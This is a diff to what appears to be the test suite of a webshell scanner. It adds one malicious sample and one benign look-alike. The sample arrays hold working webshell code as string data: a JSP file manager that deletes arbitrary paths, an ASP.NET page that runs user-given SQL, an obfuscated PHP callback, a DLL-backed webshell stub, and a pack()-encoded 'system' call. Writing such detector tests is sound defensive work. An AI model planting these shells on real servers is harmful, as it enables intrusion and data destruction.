@@ -41,6 +41,7 @@ const MALICIOUS: [string, string, string][] = [
   ['a JSP file manager whose class Shell lists, reads and deletes any path from the process\'s directory', '/var/lib/tomcat/webapps/ROOT/pp.jsp', `<%@ page import="java.io.*,java.util.*" %>\n<%! public static class Shell {\n  HttpServletRequest req; Shell(HttpServletRequest r) { req = r; }\n  String getParam(String n, String d) { String v = req.getParameter(n); return v == null ? d : v; }\n  String home() { return System.getProperty("user.dir", "/"); }\n  List<String> list() { List<String> o = new ArrayList<String>(); File[] fs = new File(getParam("path", home())).listFiles(); if (fs != null) for (File f : fs) o.add(f.getName()); return o; }\n  boolean remove() { return new File(getParam("path", "")).delete(); }\n} %>\n<% Shell s = new Shell(request); if ("rm".equals(request.getParameter("a"))) out.print(s.remove()); else out.print(s.list()); %>`],
   ['a VB.NET page whose text boxes, trimmed, give the connection string and the query (S34B-17)', '/inetpub/wwwroot/ss.aspx', `<%@ Page Language="VB" %>\n<%@ Import Namespace="System.Data.SqlClient" %>\n<script runat="server">\nSub Go(s As Object, e As EventArgs)\n  Dim db As New SqlConnection()\n  db.ConnectionString = boxConn.Text.Trim()\n  db.Open()\n  Dim cmd As New SqlCommand(boxSql.Text, db)\n  grid.DataSource = cmd.ExecuteReader()\n  grid.DataBind()\nEnd Sub\n</script>`],
   ['a callback named in an interpolated string of a header\'s piece and a name\'s tail (S34B-12)', '/var/www/html/tt.php', `<?php\n$h = substr($_SERVER['HTTP_REFERER'], -7, -4);\ncall_user_func("{$h}ert", $_REQUEST['z']);\n`],
+  ['an ASP.NET page that only makes an object of WebAdmin2Y, a webshell compiled into a DLL', '/inetpub/wwwroot/vv.aspx', `<script language="C#" runat="server">\nWebAdmin2Y.x.y w = new WebAdmin2Y.x.y("0f1e2d3c4b5a6978");\n</script>\n`],
 ];
 
 const LOOKALIKES: [string, string, string][] = [
@@ -74,6 +75,7 @@ const LOOKALIKES: [string, string, string][] = [
   ['an admin page registering a fixed chat endpoint (S34B-6)', '/var/lib/tomcat/webapps/ROOT/chat-init.jsp', `<%@ page import="javax.websocket.server.*" %>\n<% if (request.isUserInRole("admin")) { ServerContainer c = (ServerContainer) application.getAttribute(ServerContainer.class.getName()); c.addEndpoint(ServerEndpointConfig.Builder.create(com.example.Chat.class, "/ws/chat").build()); out.print("ok"); } %>`],
   ['a traceroute with a raw ICMP socket and an unused receive-all constant (S34B-7)', '/inetpub/wwwroot/trace.aspx', `<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Net.Sockets" %>\n<% const int SIO_RCVALL = unchecked((int)0x98000001); var s = new Socket(AddressFamily.InterNetwork, SocketType.Raw, ProtocolType.Icmp); s.Ttl = 3; Response.Write(s.Ttl); s.Close(); %>`],
   ['a plugin dispatcher calling a task\'s _exec handler (S34B-8)', '/var/www/html/dispatch.php', `<?php\n$tasks = array('import', 'export', 'reindex');\n$task = isset($_POST['task']) ? $_POST['task'] : '';\nif (!in_array($task, $tasks, true)) die('unknown task');\n$result = call_user_func($task . '_exec', $_POST['args']);\necho htmlspecialchars($result);\n`],
+  ['an ASP.NET page making a billing client of its own DLL with a hex key', '/inetpub/wwwroot/ww.aspx', `<script language="C#" runat="server">\nAcme.Billing.Client c = new Acme.Billing.Client("0f1e2d3c4b5a6978");\n</script>\n`],
 ];
 
 describe('scan: the techniques of held-out sets H1 to H4 (session 34)', () => {
@@ -83,7 +85,7 @@ describe('scan: the techniques of held-out sets H1 to H4 (session 34)', () => {
       assert.equal(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
     });
   }
-  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 26));
+  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 27));
 
   for (const [name, path, src] of LOOKALIKES) {
     it(`not malicious: ${name}`, () => {
@@ -91,7 +93,7 @@ describe('scan: the techniques of held-out sets H1 to H4 (session 34)', () => {
       assert.notEqual(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
     });
   }
-  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 29));
+  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 30));
 
   it('folds pack of character codes, c* and c<n> (S34B-20), up to 256 of them', () => {
     assert.match(foldVariables(`<?php\n$f = pack('c*', 115, 121, 115, 116, 101, 109);\n$f($x);\n`) ?? '', /'system'\(\$x\)/);
